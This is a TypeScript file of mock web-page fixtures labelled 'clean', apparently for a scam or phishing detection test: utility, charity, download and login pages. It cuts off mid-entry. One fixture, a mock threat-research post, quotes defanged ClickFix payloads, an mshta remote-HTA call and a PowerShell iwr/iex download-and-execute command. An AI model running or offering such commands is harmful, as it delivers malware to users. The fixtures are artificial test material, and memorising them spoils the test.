import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cfb, fileRoute, jsRoute, jsonRoute, pe } from '../parts/e-bin.js';
import { cardFields, cardFormatJs, cookieBar, doc, footer, formCss, gtag, luhnJs, mark } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-clean-pge-guest-quick-pay',
  label: 'clean',
  kind: 'utility-bill-pay',
  url: 'https://www.pge.com/en/account/billing-and-assistance/ways-to-pay/quick-pay.html',
  body: doc({
    title: 'Pay your bill without signing in | PG&E',
    head: gtag('G-PGE0QPAY'),
    css: `body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;color:#222}.h{background:#07559f;color:#fff;padding:14px 28px;display:flex;justify-content:space-between}.h b{color:#ffc72c}.c{max-width:760px;margin:26px auto;padding:0 18px}.box{border:1px solid #ddd;padding:20px}.warn{background:#fff7e0;padding:12px;font-size:14px;margin-top:18px}button{background:#07559f;color:#fff;border:0;padding:11px 26px}${formCss}`,
    body: `<div class="h"><span><b>PG&amp;E</b> Pacific Gas and Electric Company</span><span>Sign In &middot; Outages &middot; Espa&ntilde;ol</span></div>
<div class="c"><h1>Pay without signing in</h1><p>Make a one-time payment with your account number and the ZIP code of your service address. No registration required.</p>
<div class="box"><form method="post" action="/en/account/billing-and-assistance/ways-to-pay/quick-pay/lookup"><div class="fld"><label>PG&amp;E account number (10 digits)</label><input name="accountNumber" maxlength="11" required></div><div class="fld"><label>Service ZIP code</label><input name="zip" maxlength="5" required></div><button type="submit">Continue</button></form></div>
<p style="font-size:14px">Next, you can pay by bank account (free) or by debit/credit card through our payment partner (fee applies).</p>
<div class="warn"><b>Scam warning:</b> PG&amp;E will never call to demand immediate payment by prepaid card, gift card or cryptocurrency, or threaten same-day disconnection. Customers always receive written notices before any disconnection. If in doubt, hang up and call 1-833-500-SCAM.</div></div>`,
  }),
},

{
  id: 'ye-clean-coned-scam-alert-page',
  label: 'clean',
  kind: 'consumer-alert-quoting-scam',
  url: 'https://www.coned.com/en/our-energy-future/safety/scam-alerts',
  body: doc({
    title: 'Protect Yourself From Scams | Con Edison',
    css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;color:#222}.h{background:#0078cf;color:#fff;padding:14px 28px;font-weight:700;font-size:20px}.c{max-width:800px;margin:26px auto;padding:0 18px;line-height:1.65}.q{background:#f1f5f9;border-left:4px solid #0078cf;padding:10px 14px;font-style:italic}`,
    body: `<div class="h">conEdison</div>
<div class="c"><h1>Protect yourself from scams</h1>
<p>Scammers pretending to be Con Edison call, text and even visit customers. A common script:</p>
<p class="q">"This is the Con Edison disconnection department. Your account is past due and a technician is on the way to shut off your service within the hour. To stop it, pay $312.48 now with a prepaid card or through Zelle."</p>
<h2>How to tell it's a scam</h2><ul><li>We never demand immediate payment by phone or ask for prepaid cards, gift cards, Zelle, Cash App or Bitcoin.</li><li>We send a written final notice at least 15 days before any shutoff.</li><li>Our employees carry photo ID and will never ask for cash at your door.</li></ul>
<p>If you're not sure a call is real, hang up and call us at <b>1-800-752-6633</b>.</p></div>`,
  }),
},

{
  id: 'ye-clean-nfcc-nonprofit-counseling',
  label: 'clean',
  kind: 'debt-counselling-nonprofit',
  url: 'https://www.nfcc.org/',
  body: doc({
    title: 'NFCC | Nonprofit Credit Counseling & Debt Management',
    head: gtag('G-NFCC2025'),
    css: `body{margin:0;font-family:Montserrat,Arial,sans-serif;color:#222}.h{display:flex;justify-content:space-between;padding:16px 30px;border-bottom:1px solid #eee}.h b{color:#00558c;font-size:22px}.hero{background:#00558c;color:#fff;padding:44px 30px}.hero h1{margin:0 0 10px;font-size:34px}.call{display:inline-block;background:#f2a900;color:#000;padding:12px 24px;border-radius:4px;text-decoration:none;font-weight:700}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:18px;max-width:1000px;margin:28px auto;padding:0 18px}.g div{border:1px solid #e3e3e3;padding:16px;border-radius:6px}.zip input{padding:10px;width:140px}`,
    body: `<div class="h"><b>NFCC</b><span>Get Help &middot; Find a Counselor &middot; Resources &middot; About</span></div>
<div class="hero"><h1>Talk to a nonprofit credit counselor</h1><p>Free or low-cost, confidential help with credit card debt, student loans, housing and budgeting &mdash; from certified counselors at NFCC member agencies since 1951.</p><a class="call" href="tel:18003886098">Call (800) 388-2227</a></div>
<div class="g"><div><h3>Debt Management Plans</h3><p>Consolidate payments and lower interest rates. Setup fees are capped by state law and waived in hardship.</p></div><div><h3>Student Loan Counseling</h3><p>Understand federal repayment and forgiveness options. We will never ask for your FSA ID password.</p></div><div><h3>Housing Counseling</h3><p>HUD-approved counselors for first-time buyers and homeowners behind on payments.</p></div></div>
<div style="max-width:1000px;margin:0 auto 30px;padding:0 18px" class="zip"><form action="/find-a-counselor/" method="get"><label>Find a member agency near you: <input name="zip" placeholder="ZIP code"></label> <button>Search</button></form>
<p style="font-size:13px;color:#555">Beware of companies promising a "federal debt reduction program" or asking for large upfront fees. The NFCC is a 501(c)(3) nonprofit.</p></div>`,
  }),
},

{
  id: 'ye-clean-security-blog-clickfix-writeup',
  label: 'clean',
  kind: 'security-research-blog',
  url: 'https://blog.redcanaryops-research.com/2025/04/clickfix-small-business-sites/',
  body: doc({
    title: 'ClickFix lures on compromised small-business WordPress sites | Threat Research',
    css: `body{margin:0;font-family:Georgia,serif;color:#222}.h{padding:16px 30px;border-bottom:1px solid #ddd;font-family:Arial}.c{max-width:760px;margin:26px auto;padding:0 18px;line-height:1.7}pre{background:#f4f4f4;padding:12px;overflow:auto;font-size:13px;font-family:Consolas,monospace}table{border-collapse:collapse;font-family:Arial;font-size:13px}td,th{border:1px solid #ccc;padding:6px}.fig{border:1px solid #ddd;padding:10px;font-family:Arial;font-size:13px;background:#fafafa}`,
    body: `<div class="h"><b>Threat Research</b> &middot; Blog &middot; Detection Engineering</div>
<article class="c"><h1>ClickFix lures on compromised small-business WordPress sites</h1><p><i>April 14, 2025 &middot; 9 min read</i></p>
<p>Over the past quarter we observed hundreds of local-business websites (plumbers, dentists, churches) injected with a script that overlays a fake Cloudflare or reCAPTCHA check. Clicking the checkbox silently copies a command to the clipboard and instructs the visitor to press Win+R, Ctrl+V and Enter.</p>
<div class="fig">Figure 1: Overlay text: "Verify you are human &mdash; 1. Press Windows Button + R 2. Press CTRL + V 3. Press Enter"</div>
<h2>Clipboard payloads</h2><p>The copied commands we recovered (defanged):</p>
<pre>mshta hxxps://brightsmilefamilydental[.]com/wp-content/uploads/2025/03/verify.hta # ''I am not a robot - reCAPTCHA Verification ID: 7729''</pre>
<pre>powershell -w h -nop -c "$u='hxxps://dl-cdn-verify[.]com/c/vr.ps1';iex (iwr $u -UseBasicParsing).Content"</pre>
<p>The trailing comment pushes the real command out of view in the Run dialog, so the user only sees the reassuring text.</p>
<h2>Indicators</h2><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>cdn-jsdelivr-stats[.]com</td></tr><tr><td>Domain</td><td>dl-cdn-verify[.]com</td></tr><tr><td>IP</td><td>185.147.124[.]19</td></tr></table>
<h2>Detection</h2><p>Hunt for <code>explorer.exe</code> spawning <code>mshta.exe</code> or <code>powershell.exe</code> with a command line that contains "#" followed by "robot" or "verification", and review the RunMRU registry key.</p></article>`,
  }),
},

{
  id: 'ye-clean-outdoor-shop-cloudflare-challenge',
  label: 'clean',
  kind: 'bot-check-interstitial',
  url: 'https://www.midwestoutdoorsupply.com/collections/fishing-rods',
  routes: {
    'www.midwestoutdoorsupply.com/collections/fishing-rods': {
      status: 403,
      headers: { 'content-type': 'text/html; charset=UTF-8', 'cf-mitigated': 'challenge', 'cache-control': 'private, max-age=0, no-store, no-cache, must-revalidate', server: 'cloudflare', 'cf-ray': '92f1c0a8be6d2a4c-ORD' },
      body: `<!DOCTYPE html><html lang="en-US"><head><title>Just a moment...</title><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta http-equiv="X-UA-Compatible" content="IE=Edge"><meta name="robots" content="noindex,nofollow"><meta name="viewport" content="width=device-width,initial-scale=1"><style>*{box-sizing:border-box;margin:0;padding:0}html{line-height:1.15;-webkit-text-size-adjust:100%;color:#313131;font-family:system-ui,-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,"Helvetica Neue",Arial}body{display:flex;flex-direction:column;height:100vh;min-height:100vh}.main-content{margin:8rem auto;max-width:60rem;padding-left:1.5rem}.h2{font-size:1.5rem;font-weight:500;line-height:2.25rem}.footer{margin:0 auto;max-width:60rem;padding:1rem 1.5rem;font-size:.75rem;text-align:center}</style><meta http-equiv="refresh" content="360"></head><body class="no-js"><div class="main-wrapper" role="main"><div class="main-content"><h1 class="zone-name-title h1">www.midwestoutdoorsupply.com</h1><p id="Truv1" class="h2 spacer-bottom">Verifying you are human. This may take a few seconds.</p><div id="turnstile-wrapper"></div><p class="h2">www.midwestoutdoorsupply.com needs to review the security of your connection before proceeding.</p></div></div><script>(function(){window._cf_chl_opt={cvId:'3',cZone:"www.midwestoutdoorsupply.com",cType:'managed',cRay:'92f1c0a8be6d2a4c',cH:'rT9vQk2xA1m0',cUPMDTk:"\\/collections\\/fishing-rods?__cf_chl_tk=Ab3xK9",cFPWv:'b',cITimeS:'1744640412',cTplC:0,cTplV:5,cTplB:'cf',cK:"",fa:"\\/collections\\/fishing-rods?__cf_chl_f_tk=Ab3xK9",md:"q8Yk2",mdrd:"",cRq:{ru:'aHR0cHM6Ly93d3cubWlkd2VzdG91dGRvb3JzdXBwbHkuY29tL2NvbGxlY3Rpb25zL2Zpc2hpbmctcm9kcw==',ra:'TW96aWxsYS81LjA=',rm:'R0VU',d:'',t:'MTc0NDY0MDQxMi4wMDAwMDA=',cT:Math.floor(Date.now()/1000),m:'',i1:'',i2:'',zh:'',uh:'',hh:''}};var cpo=document.createElement('script');cpo.src='/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1?ray=92f1c0a8be6d2a4c';window._cf_chl_opt.cOgUHash=location.hash===''&&location.href.indexOf('#')!==-1?'#':location.hash;window._cf_chl_opt.cOgUQuery=location.search===''&&location.href.slice(0,location.href.length-window._cf_chl_opt.cOgUHash.length).indexOf('?')!==-1?'?':location.search;if(window.history&&window.history.replaceState){var ogU=location.pathname+window._cf_chl_opt.cOgUQuery+window._cf_chl_opt.cOgUHash;history.replaceState(null,null,"\\/collections\\/fishing-rods?__cf_chl_rt_tk=Ab3xK9"+window._cf_chl_opt.cOgUHash);cpo.onload=function(){history.replaceState(null,null,ogU);}}document.getElementsByTagName('head')[0].appendChild(cpo);}());</script><div class="footer" role="contentinfo"><div class="footer-inner"><div class="clearfix diagnostic-wrapper"><div class="ray-id">Ray ID: <code>92f1c0a8be6d2a4c</code></div></div><div class="text-center" id="footer-text">Performance &amp; security by <a rel="noopener noreferrer" href="https://www.cloudflare.com?utm_source=challenge&amp;utm_campaign=m" target="_blank">Cloudflare</a></div></div></div></body></html>`,
    },
  },
},

{
  id: 'ye-clean-zoom-download-center-installer',
  label: 'clean',
  kind: 'software-download-own-domain',
  url: 'https://zoom.us/download?os=win&arch=x64',
  body: doc({
    title: 'Download Center - Zoom',
    css: `body{margin:0;font-family:Lato,Arial,sans-serif;color:#232333}.h{padding:14px 30px;border-bottom:1px solid #eee;color:#0b5cff;font-weight:800;font-size:26px}.c{max-width:860px;margin:26px auto;padding:0 18px}.p{border-bottom:1px solid #eee;padding:18px 0}.btn{display:inline-block;background:#0b5cff;color:#fff;padding:10px 24px;border-radius:8px;text-decoration:none}.v{color:#747487;font-size:14px}`,
    body: `<div class="h">zoom</div>
<div class="c"><h1>Download Center</h1>
<div class="p"><h2>Zoom Workplace desktop app</h2><p>The Zoom Workplace app for Windows. Includes Meetings, Team Chat, Whiteboard and more.</p><a class="btn" href="https://zoom.us/client/6.4.3.62164/ZoomInstallerFull.exe?archType=x64">Download</a> <span class="v">Version 6.4.3 (62164) &middot; 64-bit</span><br><a href="https://zoom.us/client/6.4.3.62164/ZoomInstallerFull.exe?archType=x86" style="font-size:14px">Download 32-bit client</a> &middot; <a href="https://zoom.us/client/6.4.3.62164/ZoomInstallerFull.msi?archType=x64" style="font-size:14px">MSI for IT admins</a></div>
<div class="p"><h2>Zoom Plugin for Microsoft Outlook</h2><a class="btn" href="https://zoom.us/client/6.4.3.62164/ZoomOutlookPluginSetup.msi">Download</a></div></div>`,
  }),
  routes: {
    'zoom.us/client/6.4.3.62164/ZoomInstallerFull.exe': fileRoute(pe({ x64: true, strings: ['Zoom Video Communications, Inc.', 'ZoomInstallerFull', 'Zoom Workplace Installer', 'https://zoom.us/'], size: 65536 }), 'application/x-msdownload', 'ZoomInstallerFull.exe'),
  },
},

{
  id: 'ye-clean-turbotax-desktop-download-page',
  label: 'clean',
  kind: 'software-download-own-domain',
  url: 'https://turbotax.intuit.com/personal-taxes/cd-download/install/',
  body: doc({
    title: 'Download and install TurboTax Desktop | TurboTax',
    css: `body{margin:0;font-family:Avenir,Arial,sans-serif;color:#393a3d}.h{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd;color:#d52b1e;font-weight:800;font-size:22px}.c{max-width:820px;margin:26px auto;padding:0 18px}.steps li{margin:10px 0}.btn{display:inline-block;background:#0077c5;color:#fff;padding:11px 26px;border-radius:4px;text-decoration:none}.card{border:1px solid #ddd;padding:16px;border-radius:6px;margin:16px 0}`,
    body: `<div class="h">&#10003; turbotax</div>
<div class="c"><h1>Download and install TurboTax Desktop</h1>
<div class="card"><b>Before you start:</b> Sign in to your Intuit account to find the license code for your purchase. You'll enter it after installation.</div>
<ol class="steps"><li>Select the download for your computer.</li><li>Open <b>TurboTax_2024_Installer.exe</b> from your Downloads folder and follow the prompts.</li><li>Sign in with your Intuit Account and enter your license code.</li></ol>
<p><a class="btn" href="https://turbotax.intuit.com/cd-download/2024/TurboTax_2024_Installer.exe">Download for Windows</a> &nbsp; <a class="btn" href="https://turbotax.intuit.com/cd-download/2024/TurboTax_2024_Installer.dmg">Download for Mac</a></p>
<p style="font-size:14px">Only download TurboTax from turbotax.intuit.com. Intuit will never email you an installer as an attachment.</p></div>`,
  }),
  routes: {
    'turbotax.intuit.com/cd-download/2024/TurboTax_2024_Installer.exe': fileRoute(pe({ strings: ['Intuit Inc.', 'TurboTax 2024 Installer', 'InstallShield'], size: 49152 }), 'application/octet-stream', 'TurboTax_2024_Installer.exe'),
  },
},

{
  id: 'ye-clean-akc-breeder-visits-welcome',
  label: 'clean',
  kind: 'pet-breeder-legit',
  url: 'https://www.prairiewindgoldens.com/puppies',
  body: doc({
    title: 'Upcoming Litters | Prairie Wind Golden Retrievers | Ames, Iowa',
    css: `body{margin:0;font-family:Merriweather,Georgia,serif;color:#3d3224;background:#fffdf7}.h{padding:24px;text-align:center;background:#f4e9d3}.c{max-width:820px;margin:24px auto;padding:0 18px;line-height:1.7}.lit{border:1px solid #e4d6b7;border-radius:8px;padding:16px;margin:14px 0;background:#fff}`,
    body: `<div class="h"><h1>Prairie Wind Golden Retrievers</h1><p>AKC Breeder of Merit &middot; OFA health-tested parents &middot; Ames, Iowa</p></div>
<div class="c"><h2>Upcoming litters</h2>
<div class="lit"><b>Maple &times; Brody &mdash; expected June 2025</b><br>Both parents: OFA hips Good/Excellent, elbows normal, CAER eye exam clear, cardiac by cardiologist. Puppies go home at 8 weeks.</div>
<h2>How to adopt</h2><ol><li>Fill out our puppy application. We talk with every family by phone.</li><li>Visit us! We <b>require</b> that you meet the mother and see where puppies are raised before placing a deposit. Video calls are available for out-of-state families.</li><li>A $300 deposit (check or credit card at pickup visit) holds your spot; it is refundable if we don't have a puppy for you.</li><li>Puppies are picked up in person. We do not ship puppies or use pet transport companies.</li></ol>
<p>Price: $2,200 including first vaccines, microchip, AKC limited registration and a 2-year genetic health guarantee.</p>
<p>Call or text Karen: (515) 555-0144 &middot; <a href="https://www.akc.org/">AKC</a> &middot; <a href="https://www.grca.org/">Golden Retriever Club of America</a> member</p></div>`,
  }),
},

{
  id: 'ye-clean-redcross-donate-card',
  label: 'clean',
  kind: 'charity-donation',
  url: 'https://www.redcross.org/donate/donation.html/?campaign=disaster-relief-spring-2025',
  body: doc({
    title: 'Donate to Disaster Relief | American Red Cross',
    head: gtag('G-ARC00DON'),
    css: `body{margin:0;font-family:Arial,sans-serif;color:#222}.h{padding:14px 28px;border-bottom:1px solid #ddd;display:flex;align-items:center;gap:10px}.h b{color:#ed1b2e;font-size:20px}.cross{width:26px;height:26px;background:linear-gradient(#ed1b2e,#ed1b2e) center/8px 26px no-repeat,linear-gradient(#ed1b2e,#ed1b2e) center/26px 8px no-repeat}.c{max-width:620px;margin:26px auto;padding:0 18px}.amts{display:flex;gap:8px;flex-wrap:wrap;margin:12px 0}.amts label{border:1px solid #ed1b2e;border-radius:4px;padding:10px 16px}button{background:#ed1b2e;color:#fff;border:0;padding:13px 28px;font-size:16px;width:100%}${formCss}`,
    body: `<div class="h"><span class="cross"></span><b>American Red Cross</b></div>
<div class="c"><h1>Help people affected by disasters</h1><p>Your gift enables the Red Cross to prepare for, respond to and help people recover from disasters big and small.</p>
<form method="post" action="/donate/donation.html/submit">
<div class="amts"><label><input type="radio" name="amt" value="50"> $50</label><label><input type="radio" name="amt" value="100" checked> $100</label><label><input type="radio" name="amt" value="250"> $250</label><label><input type="radio" name="amt" value="other"> Other</label></div>
<label><input type="checkbox" name="monthly"> Make this a monthly gift</label>
<div class="fld"><label>Email</label><input name="email" type="email" required></div>
${cardFields()}
<button type="submit">Donate</button></form>
<p style="font-size:12px;color:#555">The American Red Cross is a 501(c)(3) nonprofit. Donations are tax-deductible to the extent allowed by law. EIN 53-0196605.</p></div>
<script>${cardFormatJs}</script>`,
  }),
},

{
  id: 'ye-clean-county-foodbank-donate',
  label: 'clean',
  kind: 'charity-donation',
  url: 'https://www.tricountyfoodbank-pa.org/give',
  body: doc({
    title: 'Give | Tri-County Food Bank',
    head: `<script src="https://js.stripe.com/v3/"></script>`,
    css: `body{margin:0;font-family:Nunito,Arial,sans-serif;color:#2d2d2d}.h{background:#f58220;color:#fff;padding:16px 28px;font-weight:800;font-size:20px}.c{max-width:680px;margin:24px auto;padding:0 18px}.imp{background:#fff4ea;padding:14px;border-radius:8px}#card-element{border:1px solid #8d959e;border-radius:4px;padding:12px;min-height:20px}button{background:#2d7d46;color:#fff;border:0;padding:13px 30px;font-size:16px;border-radius:6px;margin-top:14px}${formCss}`,
    body: `<div class="h">Tri-County Food Bank</div>
<div class="c"><h1>Every $1 provides 4 meals</h1><p class="imp">Last year we distributed 11.2 million pounds of food through 180 partner pantries in Berks, Lebanon and Schuylkill counties.</p>
<form id="give" action="/give/charge" method="post"><div class="fld"><label>Amount (USD)</label><input name="amount" value="50"></div><div class="row2"><div class="fld"><label>First name</label><input name="first"></div><div class="fld"><label>Last name</label><input name="last"></div></div><div class="fld"><label>Email</label><input name="email" type="email"></div>
<div class="fld"><label>Card</label><div id="card-element"></div></div><button type="submit">Give now</button></form>
<p style="font-size:13px">Prefer to mail a check? Tri-County Food Bank, 1420 Industrial Dr, Reading, PA 19605. Tax ID 23-2391044. We never solicit donations by Zelle, Cash App, gift card or crypto.</p></div>
<script>if(window.Stripe){var s=Stripe('pk_live_51Hq2YJK8sT3rFbA0dQwXzP1uLm9cE4vG7nR2kYt6');var e=s.elements();var c=e.create('card');c.mount('#card-element');}</script>`,
  }),
},

{
  id: 'ye-clean-parked-toll-lookalike-domain',
  label: 'clean',
  kind: 'parked-domain',
  url: 'https://tollpay-online-ny.com/',
  body: doc({
    title: 'tollpay-online-ny.com',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f8f8f8;color:#333}.top{background:#fff;padding:14px 24px;border-bottom:1px solid #e5e5e5;font-size:14px}.c{max-width:760px;margin:40px auto;text-align:center}.d{font-size:34px;color:#1f5fa9}.rel{display:grid;grid-template-columns:1fr 1fr;gap:10px;max-width:560px;margin:26px auto}.rel a{display:block;background:#fff;border:1px solid #ddd;padding:14px;border-radius:4px;color:#1f5fa9;text-decoration:none}.sale{margin-top:30px;font-size:14px}`,
    body: `<div class="top">This domain is registered at a domain registrar and is currently parked.</div>
<div class="c"><div class="d">tollpay-online-ny.com</div><p>Related Searches:</p>
<div class="rel"><a href="/search?q=EZ+Pass+Account">EZ Pass Account</a><a href="/search?q=Toll+Road+Map">Toll Road Map</a><a href="/search?q=Car+Insurance+Quotes">Car Insurance Quotes</a><a href="/search?q=Used+Cars+For+Sale">Used Cars For Sale</a><a href="/search?q=Roadside+Assistance">Roadside Assistance</a><a href="/search?q=GPS+Navigation">GPS Navigation</a></div>
<p class="sale">This domain may be for sale. <a href="https://www.afternic.com/forsale/tollpay-online-ny.com?traffic_type=TDFS&traffic_id=daslnc">Buy now for $1,995</a></p>
<p style="font-size:12px;color:#999">Privacy Policy &middot; The sponsored listings displayed above are served automatically by a third party. Neither the service provider nor the domain owner maintain any relationship with the advertisers.</p></div>`,
  }),
},

{
  id: 'ye-clean-shortlink-to-state-dmv-portal',
  label: 'clean',
  kind: 'shortener-redirect',
  url: 'https://bit.ly/CA-DMV-RealID-2025',
  routes: {
    'bit.ly/CA-DMV-RealID-2025': redirectRoute(301, 'https://www.dmv.ca.gov/portal/driver-licenses-identification-cards/real-id/?utm_source=bitly&utm_medium=social&utm_campaign=realid2025'),
    'www.dmv.ca.gov/portal/driver-licenses-identification-cards/real-id/': htmlRoute(
      doc({
        title: 'REAL ID - California DMV',
        css: `body{margin:0;font-family:"Noto Sans",Arial,sans-serif;color:#1b1b1b}.hdr{border-bottom:4px solid #005b9a;padding:14px 26px;color:#005b9a;font-weight:700}.c{max-width:760px;margin:24px auto;padding:0 18px;line-height:1.6}.btn{display:inline-block;background:#005b9a;color:#fff;padding:11px 24px;text-decoration:none;border-radius:3px}`,
        body: `<div class="hdr">California DMV</div><div class="c"><h1>REAL ID</h1><p>Starting May 7, 2025, you'll need a REAL ID or other federally approved document (such as a passport) to board domestic flights and enter secure federal facilities.</p><h2>Get your REAL ID in 3 steps</h2><ol><li>Start your application online.</li><li>Upload your documents: proof of identity, Social Security number and two proofs of California residency.</li><li>Visit a DMV office with your confirmation code.</li></ol><p><a class="btn" href="/portal/driver-licenses-identification-cards/real-id/real-id-checklist/">Start application</a></p><p>The fee for a driver's license is $45. The DMV never charges "expedite fees" through third-party websites or text messages.</p></div>`,
      }),
    ),
  },
},

{
  id: 'ye-clean-college-roundcube-webmail',
  label: 'clean',
  kind: 'webmail-own-domain',
  url: 'https://webmail.lakeviewcollege.edu/?_task=login',
  body: doc({
    title: 'Lakeview College Webmail :: Welcome to Lakeview College Webmail',
    head: `<link rel="stylesheet" href="/skins/elastic/styles/styles.min.css?s=1712345678"><script src="/program/js/app.min.js?s=1712345678"></script>`,
    css: `body{margin:0;background:#e9ecef;font-family:"Source Sans Pro",Arial,sans-serif}#layout{max-width:360px;margin:80px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 0 4px rgba(0,0,0,.2)}.logo{text-align:center;color:#23395d;font-size:22px;font-weight:700;margin-bottom:20px}input{width:100%;box-sizing:border-box;padding:8px;border:1px solid #ccc;border-radius:3px;margin-bottom:12px}button{width:100%;background:#37beff;color:#fff;border:0;padding:10px;border-radius:3px;font-size:15px}#footer{text-align:center;font-size:12px;color:#777;margin-top:18px}`,
    body: `<div id="layout"><div class="logo">Lakeview College Webmail</div>
<form name="login-form" method="post" action="./?_task=login"><input type="hidden" name="_token" value="qT7mXzB3pYcR0kN8vW2e"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" id="rcmlogintz" value="_default_"><input type="hidden" name="_url" value="">
<input name="_user" id="rcmloginuser" placeholder="Username" autocapitalize="off" autocomplete="username" required><input name="_pass" id="rcmloginpwd" type="password" placeholder="Password" autocomplete="current-password" required>
<button type="submit" id="rcmloginsubmit">Login</button></form>
<div id="footer">Lakeview College ITS &middot; Roundcube Webmail<br>ITS will never email you to "upgrade your mailbox quota".</div></div>
<script>document.getElementById('rcmlogintz').value=Intl.DateTimeFormat().resolvedOptions().timeZone;</script>`,
  }),
},

{
  id: 'ye-clean-microsoft-login-own-authorize',
  label: 'clean',
  kind: 'brand-login-own-domain',
  url: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000002-0000-0ff1-ce00-000000000000&redirect_uri=https%3A%2F%2Foutlook.office365.com%2Fowa%2F&response_type=code%20id_token&scope=openid&response_mode=form_post&nonce=638801147215520913.YjQ2&state=DctBDoIwEABRj',
  body: doc({
    title: 'Sign in to your account',
    head: `<link rel="stylesheet" href="https://aadcdn.msauth.net/shared/1.0/content/cdnbundles/converged.v2.login.min_ik4b2hqeyfk5xzl8o5dnxa2.css"><script src="https://aadcdn.msauth.net/shared/1.0/content/js/ConvergedLogin_PCore_Xk1vCGi2mNV5bJ3cFGwB4Q2.js" defer></script>`,
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.b{width:440px;max-width:92%;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ms{display:flex;gap:2px;width:22px;flex-wrap:wrap;float:left;margin-right:8px}.ms i{width:10px;height:10px;display:block}h1{font-size:24px;font-weight:600;margin:20px 0 14px}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin-bottom:16px}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px}`,
    body: `<div class="b"><div><span class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></span><span style="font-size:20px;color:#737373">Microsoft</span></div>
<h1>Sign in</h1><form name="f1" method="post" action="/common/login" autocomplete="off"><input type="hidden" name="ctx" value="rQQIARAAjZI9bNNAFMfvkjZAlaoVAxKzKgHqfn5q1K5u02qhsp3Pb"><input type="hidden" name="flowToken" value="AQABAAEAAADnfolhJpSnRYB1SVj-Hgd8"><input name="loginfmt" type="email" placeholder="Email, phone, or Skype" autocomplete="username"><p style="font-size:13px">No account? <a href="https://signup.live.com/">Create one!</a><br><a href="#">Can't access your account?</a></p><button type="submit">Next</button></form><div style="clear:both"></div></div>
<script>var $Config={urlPost:"/common/login",sCtx:"rQQIARAAjZI9bNNAFMfvkjZAlaoVAxKzKgHqfn5q1K5u02qhsp3Pb",iMaxPollErrors:5,sTenantId:"common",fShowPersistentCookiesWarning:false};</script>`,
  }),
},

{
  id: 'ye-clean-docusign-signing-own-envelope',
  label: 'clean',
  kind: 'esign-own-domain',
  url: 'https://na4.docusign.net/Signing/EmailStart.aspx?a=b7d3c1e8-2f94-4a61-8c0e-5a9f3d2b71c4&etti=24&acct=9e1c2b7a-44f0-4c35-9a81-3f6d0e2c5b19&er=6a2f8c1d-0b73-4e95-a4c2-8d1e7f3b9a60',
  body: doc({
    title: 'DocuSign',
    css: `body{margin:0;font-family:"Noto Sans",Arial,sans-serif;background:#f4f4f4}.bar{background:#fff;border-bottom:1px solid #ccc;padding:12px 24px;display:flex;justify-content:space-between;align-items:center}.bar b{font-size:20px}.bar b span{color:#d5a100}.msg{background:#fff;max-width:780px;margin:24px auto;padding:20px;border:1px solid #ddd}.cont{background:#ffc820;border:0;padding:10px 26px;font-weight:700}.agree{font-size:14px}`,
    body: `<div class="bar"><b>Docu<span>Sign</span></b><span style="font-size:13px">Powered by DocuSign</span></div>
<div class="msg"><p>Please review and act on these documents.</p><p><b>Premier Title &amp; Escrow</b><br>Jenna Morales, Escrow Officer</p>
<p class="agree"><input type="checkbox" id="ers"> I agree to use <a href="#">electronic records and signatures</a>.</p>
<button class="cont" onclick="if(document.getElementById('ers').checked)location.href='/Signing/StartInSession.aspx?t=b7d3c1e8'">CONTINUE</button>
<p style="font-size:12px;color:#666">Do not share this email. This email contains a secure link to DocuSign. If you received an unexpected request for payment, wire instructions or login credentials, contact the sender by phone before acting.</p></div>`,
  }),
},

{
  id: 'ye-clean-job-board-remote-posting',
  label: 'clean',
  kind: 'job-posting-legit',
  url: 'https://www.indeed.com/viewjob?jk=8f4c2d19a7e3b651&from=serp&vjs=3',
  body: doc({
    title: 'Remote Claims Processing Specialist - Midwest Mutual Insurance - Remote | Indeed.com',
    css: `body{margin:0;font-family:"Noto Sans",Arial,sans-serif;color:#2d2d2d}.h{padding:14px 28px;border-bottom:1px solid #e4e2e0;color:#2557a7;font-weight:700;font-size:22px}.c{max-width:760px;margin:24px auto;padding:0 18px;line-height:1.6}.apply{background:#2557a7;color:#fff;border:0;border-radius:8px;padding:12px 24px;font-weight:700}.pill{display:inline-block;background:#f3f2f1;border-radius:6px;padding:4px 10px;margin:2px;font-size:14px}`,
    body: `<div class="h">indeed</div>
<div class="c"><h1>Remote Claims Processing Specialist</h1><p><b>Midwest Mutual Insurance</b> &middot; Remote in Iowa, Illinois, Missouri</p><p><span class="pill">$21 &ndash; $24 an hour</span><span class="pill">Full-time</span><span class="pill">401(k) matching</span><span class="pill">Health insurance</span></p>
<button class="apply">Apply now</button>
<h2>Full job description</h2><p>Midwest Mutual is hiring claims processing specialists to review and enter auto and property claims. Paid two-week virtual training. Company-issued laptop is shipped to you after your background check; you will never be asked to buy equipment or deposit a check.</p>
<ul><li>High school diploma or equivalent</li><li>1+ year data entry or customer service experience</li><li>Reliable internet (25 Mbps+)</li></ul>
<p style="font-size:13px;color:#595959">Indeed tip: Employers will never ask you to deposit a check and send money back, or to pay for equipment. Report suspicious jobs.</p></div>`,
  }),
},

{
  id: 'ye-clean-steam-openid-login-own',
  label: 'clean',
  kind: 'brand-login-own-domain',
